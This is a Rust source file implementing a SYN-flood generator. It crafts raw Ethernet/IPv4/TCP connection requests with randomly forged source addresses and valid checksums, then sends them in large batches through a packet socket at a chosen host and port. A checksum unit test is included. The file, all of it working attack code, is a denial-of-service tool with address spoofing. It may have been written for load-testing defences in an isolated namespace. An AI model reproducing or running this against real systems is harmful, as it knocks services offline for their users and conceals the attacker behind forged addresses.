//! Connection requests from random sources, as fast as a packet socket takes them.

use std::io;
use std::net::Ipv4Addr;
use std::os::fd::{AsRawFd as _, OwnedFd};
use std::sync::atomic::{AtomicU64, Ordering};

use anyhow::{Context, Result};
use nix::net::if_::if_nametoindex;
use nix::sys::socket::{AddressFamily, SockFlag, SockType, socket};

/// Ethernet, IPv4 and TCP headers without options.
const FRAME: usize = 14 + 20 + 20;
const BATCH: usize = 64;

/// Whom to flood, from where.
#[derive(Debug, Clone, Copy)]
pub struct Target {
    pub from_mac: [u8; 6],
    pub mac: [u8; 6],
    pub address: Ipv4Addr,
    pub port: u16,
}

/// Sends `count` requests from the calling thread's namespace, and tells how many so far.
pub fn flood(device: &str, target: Target, count: u64, progress: &AtomicU64) -> Result<()> {
    // No protocol: it need not receive anything.
    let line = socket(AddressFamily::Packet, SockType::Raw, SockFlag::SOCK_CLOEXEC, None)?;
    // SAFETY: integers and arrays of them, for which zero is a value.
    let mut address: libc::sockaddr_ll = unsafe { std::mem::zeroed() };
    address.sll_family = libc::AF_PACKET as u16;
    address.sll_ifindex = i32::try_from(if_nametoindex(device)?)?;
    let mut random = Random(0x9e37_79b9_7f4a_7c15);
    let mut frames = vec![[0; FRAME]; BATCH];
    let mut sent = 0;
    while sent < count {
        let batch = usize::try_from(count - sent).map_or(BATCH, |left| left.min(BATCH));
        let frames = frames.get_mut(..batch).unwrap_or_default();
        for frame in &mut *frames {
            *frame = request(target, &mut random);
        }
        send(&line, &mut address, frames)?;
        sent += batch as u64;
        progress.store(sent, Ordering::Relaxed);
    }
    Ok(())
}

/// All frames, in as many calls as it takes.
fn send(line: &OwnedFd, address: &mut libc::sockaddr_ll, frames: &mut [[u8; FRAME]]) -> Result<()> {
    let mut parts: Vec<_> = frames
        .iter_mut()
        .map(|frame| libc::iovec { iov_base: frame.as_mut_ptr().cast(), iov_len: FRAME })
        .collect();
    let mut messages: Vec<_> = parts
        .iter_mut()
        .map(|part| {
            // SAFETY: pointers and integers, for which zero is a value.
            let mut message: libc::mmsghdr = unsafe { std::mem::zeroed() };
            message.msg_hdr.msg_name = (&raw mut *address).cast();
            message.msg_hdr.msg_namelen = size_of::<libc::sockaddr_ll>() as libc::socklen_t;
            message.msg_hdr.msg_iov = part;
            message.msg_hdr.msg_iovlen = 1;
            message
        })
        .collect();
    let mut rest = messages.as_mut_slice();
    while !rest.is_empty() {
        // SAFETY: every message points to its address and its one part, which point to a frame; all outlive the call.
        let done = unsafe { libc::sendmmsg(line.as_raw_fd(), rest.as_mut_ptr(), rest.len() as u32, 0) };
        match usize::try_from(done) {
            Ok(done) => rest = rest.get_mut(done..).unwrap_or_default(),
            Err(_) => match io::Error::last_os_error() {
                error if error.kind() == io::ErrorKind::Interrupted => {}
                error if error.raw_os_error() == Some(libc::ENOBUFS) => std::thread::yield_now(),
                error => return Err(error).context("sendmmsg"),
            },
        }
    }
    Ok(())
}

/// RFC 791 and RFC 9293.
fn request(target: Target, random: &mut Random) -> [u8; FRAME] {
    let [number, other] = [random.next(), random.next()];
    let [a, b, c, d, p, q, i, j] = number.to_be_bytes();
    // Neither the site's own networks nor any that hosts treat specially.
    let source = [20 + a % 80, b, c, d];
    let [port_high, port_low] = target.port.to_be_bytes();
    let [s0, s1, s2, s3, ..] = other.to_be_bytes();
    let mut ip = [0x45, 0, 0, 40, i, j, 0, 0, 64, 6, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0];
    put(&mut ip, 12, &source);
    put(&mut ip, 16, &target.address.octets());
    let sum = checksum(&ip, 0);
    put(&mut ip, 10, &sum.to_be_bytes());
    // Above the privileged ports.
    let mut tcp =
        [4 | p, q, port_high, port_low, s0, s1, s2, s3, 0, 0, 0, 0, 5 << 4, 2, 0xfa, 0xf0, 0, 0, 0, 0];
    let pseudo = ip.get(12..).unwrap_or_default().chunks_exact(2).map(word).sum::<u32>() + 6 + 20;
    let sum = checksum(&tcp, pseudo);
    put(&mut tcp, 16, &sum.to_be_bytes());
    let mut frame = [0; FRAME];
    put(&mut frame, 0, &target.mac);
    put(&mut frame, 6, &target.from_mac);
    put(&mut frame, 12, &[0x08, 0x00]);
    put(&mut frame, 14, &ip);
    put(&mut frame, 34, &tcp);
    frame
}

fn put(bytes: &mut [u8], at: usize, what: &[u8]) {
    if let Some(place) = bytes.get_mut(at..at + what.len()) {
        place.copy_from_slice(what);
    }
}

fn word(pair: &[u8]) -> u32 {
    pair.iter().fold(0, |word, byte| word << 8 | u32::from(*byte))
}

/// RFC 1071, over an even number of bytes.
fn checksum(bytes: &[u8], more: u32) -> u16 {
    let sum = bytes.chunks_exact(2).map(word).sum::<u32>() + more;
    let folded = (sum & 0xffff) + (sum >> 16);
    !((folded & 0xffff) + (folded >> 16)) as u16
}

/// Marsaglia's xorshift: the flood need only look random, and the same each time.
struct Random(u64);

impl Random {
    const fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_request_has_checksums_that_receivers_accept() {
        let target = Target { from_mac: [2; 6], mac: [4; 6], address: Ipv4Addr::new(10, 0, 0, 5), port: 80 };
        let frame = request(target, &mut Random(1));
        assert_eq!(checksum(&frame[14..34], 0), 0);
        let pseudo = frame[26..34].chunks_exact(2).map(word).sum::<u32>() + 6 + 20;
        assert_eq!(checksum(&frame[34..], pseudo), 0);
        assert_eq!(&frame[30..34], &[10, 0, 0, 5]);
        assert_ne!(request(target, &mut Random(2)), frame);
    }
}
